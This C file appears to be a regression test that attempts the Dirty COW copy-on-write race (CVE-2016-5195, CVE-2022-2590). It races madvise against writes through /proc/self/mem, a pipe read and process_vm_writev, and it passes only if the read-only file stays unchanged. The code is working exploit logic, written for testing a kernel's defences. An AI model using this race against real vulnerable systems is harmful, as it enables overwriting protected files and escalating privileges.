/* CVE: CVE-2016-5195, CVE-2022-2590
   Wins: a file that may only be read is written to, by a private mapping whose copy is thrown away while it is written
   Verdict: ok
   Output: ok
   Timeout: 120

   One thread gives pages of a read-only private mapping of an input back, others write to it in ways that go around the processor: the process's memory as a file, a
   read into it, a call that writes to other processes. */

#include "../thread.h"

enum { ROUNDS = 400, VM_WRITEV = 348, YIELD = 158 };

static char stacks[3][8192];
static volatile int ids[3], stop;
static u8 *map;
static int self, input, ends[2];

static int gives_back(int unused)
{
	(void)unused;
	while (!stop) {
		sys(MADVISE, map, PAGE, 4); /* MADV_DONTNEED */
		sys(YIELD);
	}
	return 0;
}

int attack(char **arguments, char **environment)
{
	struct {
		const void *base;
		u32 length;
	} local = { "evil", 4 }, remote;
	u8 now[4];
	int i;

	input = sys(OPEN, arguments[0], 0, 0);
	map = (u8 *)sys(MMAP2, 0, PAGE, 1, 2, input, 0);
	must(!FAILED(input) && !FAILED(map), "(nothing: the attack could not begin)");
	self = sys(OPEN, "/proc/self/mem", O_RDWR, 0);
	sys(PIPE, ends);
	thread_clone(0x350f00, stacks[0] + 8192, (int *)&ids[0], (int *)&ids[0], gives_back, 0);
	for (i = 0; i < ROUNDS; i++) {
		if (!FAILED(self))
			sys(PWRITE64, self, "evil", 4, map, 0);
		sys(WRITE, ends[1], "evil", 4);
		sys(READ, ends[0], map, 4);
		remote.base = map;
		remote.length = 4;
		sys(VM_WRITEV, sys(GETPID), &local, 1, &remote, 1, 0);
		sys(YIELD);
	}
	stop = 1;
	sys(PREAD64, input, now, 4, 0, 0);
	must(now[0] == 0x7f && now[1] == 'E' && now[2] == 'L' && now[3] == 'F', "a file of the store is written to");
	sys(MADVISE, map, PAGE, 4);
	must(map[0] == 0x7f && map[1] == 'E', "a page of a file of the store is written to");
	return 0;
}
